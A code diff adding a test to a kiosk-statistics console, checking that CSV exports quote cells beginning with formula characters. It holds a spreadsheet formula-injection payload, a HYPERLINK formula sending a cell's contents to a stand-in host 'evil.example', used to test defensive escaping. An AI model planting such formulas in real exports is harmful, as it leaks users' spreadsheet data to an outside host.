@@ -249,3 +249,22 @@ def test_a_rating_and_a_visit_at_the_same_moment_count_on_the_same_day(console_d
         ratings = [row.key for row in rating_table(db, week(), "days")]
         visits = [row.key for row in tally_table(db, week(), "visits_days")]
     assert ratings == visits == [(TODAY.isoformat(),)]
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(
+    console_client: TestClient, console_db: Database
+) -> None:
+    """Department and service names come from kiosks: a cell starting with = + - @ tab or CR gets a
+    leading ' so that a spreadsheet shows it as text; numbers stay numbers."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    rated(console_db, "wh-001", at(TODAY, 9), "satisfied", department=formula, service="@SUM(1+1)")
+    rated(console_db, "+wh-2", at(TODAY, 9), "satisfied", department="-1", service="\tx")
+    add_account(console_db, "li", Role.VIEWER)
+    sign_in(console_client, "li")
+    text = console_client.get("/statistics/services.csv").text.lstrip("\ufeff")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert ["'" + formula, "'@SUM(1+1)", "0", "1", "0", "0", "0", "1", "0"] in rows
+    assert ["'-1", "'\tx", "0", "1", "0", "0", "0", "1", "0"] in rows
+    kiosks = list(csv.reader(io.StringIO(console_client.get("/statistics/kiosks.csv").text.lstrip("\ufeff"))))
+    assert ["'+wh-2", "0", "1", "0", "0", "0", "1", "0"] in kiosks
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows + kiosks for cell in row)
